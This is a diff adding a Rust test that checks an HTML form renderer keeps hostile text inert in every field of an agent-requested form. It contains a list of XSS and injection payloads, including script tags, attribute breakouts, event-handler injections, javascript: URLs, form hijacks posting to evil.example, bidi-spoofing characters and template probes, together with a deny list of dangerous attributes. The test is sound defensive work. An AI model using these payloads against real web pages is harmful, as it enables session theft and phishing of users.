@@ -566,3 +566,226 @@ fn an_unknown_property_type_is_shown_as_unrenderable_and_blocks_accept() {
     let declined = Submission::parse(&schema, b"elicit-action=decline").response();
     assert_eq!(declined.unwrap().action(), &Action::Decline);
 }
+
+/// Texts an agent could put anywhere in a form to break out of it.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "\" onfocus=\"alert(1)\" autofocus=\"",
+    "' onmouseover='alert(1)",
+    "\" href=\"javascript:alert(1)",
+    "javascript:alert(document.cookie)",
+    "<a href=\"javascript:alert(1)\">click me</a>",
+    "https://evil.example/login?next=https://bank.example",
+    "</form><form action=\"https://evil.example/steal\"><input name=x>",
+    "</label></div></fieldset></form><button formaction=https://evil.example>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+    "<!-- a comment --><![CDATA[x]]><!DOCTYPE html>",
+    "</textarea></title></style></script><iframe src=javascript:alert(1)>",
+    "&lt;script&gt; &amp; &#x3C; &#60; &quot;",
+    "<bdi>\u{202E}exe.txt</bdi>",
+    "\u{202E}gnp.exe\u{202C} \u{2066}isolated\u{2069} \u{200F}rtl",
+    "zero\u{200B}width\u{200C}join\u{200D}er\u{FEFF}\u{2060}",
+    "`${alert(1)}` {{7*7}} <%= 7*7 %>",
+    "a\"b'c<d>e&f/g=h`i",
+];
+
+/// Where a hostile text goes.
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum Spot {
+    FormTitle,
+    FormDescription,
+    PropertyTitle,
+    PropertyDescription,
+    PropertyName,
+    StringDefault,
+    OptionTitle,
+    OptionDescription,
+    OptionConst,
+    EnumValue,
+    UnknownType,
+    UnknownFormat,
+    Pattern,
+    Message,
+    Agent,
+    ButtonLabel,
+}
+
+const SPOTS: [Spot; 16] = [
+    Spot::FormTitle,
+    Spot::FormDescription,
+    Spot::PropertyTitle,
+    Spot::PropertyDescription,
+    Spot::PropertyName,
+    Spot::StringDefault,
+    Spot::OptionTitle,
+    Spot::OptionDescription,
+    Spot::OptionConst,
+    Spot::EnumValue,
+    Spot::UnknownType,
+    Spot::UnknownFormat,
+    Spot::Pattern,
+    Spot::Message,
+    Spot::Agent,
+    Spot::ButtonLabel,
+];
+
+/// The same form with `t` at `spot`, as a client reads it (the lenient parse), its
+/// page, and the content the page's defaults post (`None`: accept is refused).
+fn hostile_page(t: &str, spot: Spot) -> (RequestedSchema, String, Option<serde_json::Value>) {
+    let at = |s: Spot, benign: &str| -> String {
+        if s == spot {
+            t.to_owned()
+        } else {
+            benign.to_owned()
+        }
+    };
+    let name = at(Spot::PropertyName, "name");
+    let mut text = json!({ "type": "string", "title": at(Spot::PropertyTitle, "Name"),
+        "description": at(Spot::PropertyDescription, "Who") });
+    match spot {
+        // No default beside a hostile format or pattern, which could refuse it.
+        Spot::UnknownFormat => text["format"] = json!(t),
+        Spot::Pattern => text["pattern"] = json!(t),
+        _ => text["default"] = json!(at(Spot::StringDefault, "ann")),
+    }
+    let option = at(Spot::OptionConst, "a");
+    let item = at(Spot::EnumValue, "x");
+    let mut properties = serde_json::Map::new();
+    properties.insert(name.clone(), text);
+    properties.insert(
+        "choice".into(),
+        json!({ "type": "string", "oneOf": [
+            { "const": option, "title": at(Spot::OptionTitle, "A"),
+              "description": at(Spot::OptionDescription, "first") },
+            { "const": "b", "title": "B" }
+        ], "default": option }),
+    );
+    properties.insert(
+        "many".into(),
+        json!({ "type": "array", "items": { "type": "string", "enum": [item, "y"] },
+                "default": [item] }),
+    );
+    properties.insert(
+        "other".into(),
+        json!({ "type": at(Spot::UnknownType, "boolean") }),
+    );
+    let schema = RequestedSchema::from_json_lenient(&json!({
+        "type": "object",
+        "title": at(Spot::FormTitle, "Form"),
+        "description": at(Spot::FormDescription, "About"),
+        "properties": properties,
+    }))
+    .unwrap_or_else(|e| panic!("{spot:?} {t:?}: {e}"));
+    let page = HtmlForm::new(&schema)
+        .agent(AgentIdentity::new(at(Spot::Agent, "bot")))
+        .message(at(Spot::Message, "Please answer"))
+        .accept_label(at(Spot::ButtonLabel, "Accept"))
+        .render();
+    let mut content = serde_json::Map::new();
+    if spot != Spot::Pattern && spot != Spot::UnknownFormat {
+        content.insert(name, json!(at(Spot::StringDefault, "ann")));
+    }
+    content.insert("choice".into(), json!(option));
+    content.insert("many".into(), json!([item]));
+    content.insert("other".into(), json!(false));
+    let expected = (spot != Spot::UnknownType).then_some(serde_json::Value::Object(content));
+    (schema, page, expected)
+}
+
+/// The elements and attributes of a page, with what the agent wrote blanked out: the
+/// texts, and the `value` and `name` attributes that carry its option values, defaults
+/// and property names. Two forms differing only in their texts have the same shape.
+fn shape(html: &Html) -> Vec<String> {
+    html.root_element()
+        .descendants()
+        .filter_map(ElementRef::wrap)
+        .map(|e| {
+            let mut attrs: Vec<String> = e
+                .value()
+                .attrs()
+                .map(|(k, v)| match k {
+                    "value" | "name" => format!("{k}=*"),
+                    _ => format!("{k}={v}"),
+                })
+                .collect();
+            attrs.sort();
+            format!("<{} {}>", e.value().name(), attrs.join(" "))
+        })
+        .collect()
+}
+
+/// The elements the renderer writes, and nothing else.
+const ELEMENTS: &[&str] = &[
+    "html", "form", "div", "p", "strong", "bdi", "label", "input", "span", "fieldset", "legend",
+    "button", "code",
+];
+
+// covers: S5, F7, E6
+#[test]
+fn hostile_texts_stay_text_wherever_they_are() {
+    let mut schemas = 0;
+    for spot in SPOTS {
+        let (_, benign, _) = hostile_page("plain", spot);
+        let benign_shape = shape(&parse(&benign));
+        for t in HOSTILE {
+            let (schema, page, expected) = hostile_page(t, spot);
+            schemas += 1;
+            let case = format!("{spot:?} {t:?}");
+            assert!(
+                !page.to_ascii_lowercase().contains("<script"),
+                "{case}: {page}"
+            );
+            let html = parse(&page);
+            // The parser sees exactly the elements and attributes of the benign form:
+            // no element, attribute or breakout came from the text.
+            assert_eq!(shape(&html), benign_shape, "{case}: {page}");
+            for e in html
+                .root_element()
+                .descendants()
+                .filter_map(ElementRef::wrap)
+            {
+                assert!(
+                    ELEMENTS.contains(&e.value().name()),
+                    "{case}: <{}>",
+                    e.value().name()
+                );
+                for (k, v) in e.value().attrs() {
+                    assert!(
+                        !["href", "src", "style", "formaction", "srcdoc"].contains(&k)
+                            && !k.starts_with("on"),
+                        "{case}: attribute {k}"
+                    );
+                    if k != "value" && k != "name" {
+                        assert!(!v.contains("javascript:"), "{case}: {k}={v}");
+                    }
+                }
+            }
+            // The text arrives whole: in a text node or an attribute value, as written.
+            let in_text = html
+                .root_element()
+                .descendants()
+                .filter_map(ElementRef::wrap)
+                .any(|e| {
+                    e.text().any(|s| s.contains(t)) || e.value().attrs().any(|(_, v)| v.contains(t))
+                });
+            assert!(in_text, "{case}: not shown as written in {page}");
+            // And a post of the page as it stands reads back to the same values.
+            let body = post(&page, &[], &[], "accept");
+            match expected {
+                Some(expected) => {
+                    assert_eq!(
+                        parse_submission(&schema, &body).ok(),
+                        Some(expected),
+                        "{case}"
+                    )
+                }
+                None => assert!(parse_submission(&schema, &body).is_err(), "{case}"),
+            }
+        }
+    }
+    assert!(schemas >= 30, "{schemas} hostile forms");
+}
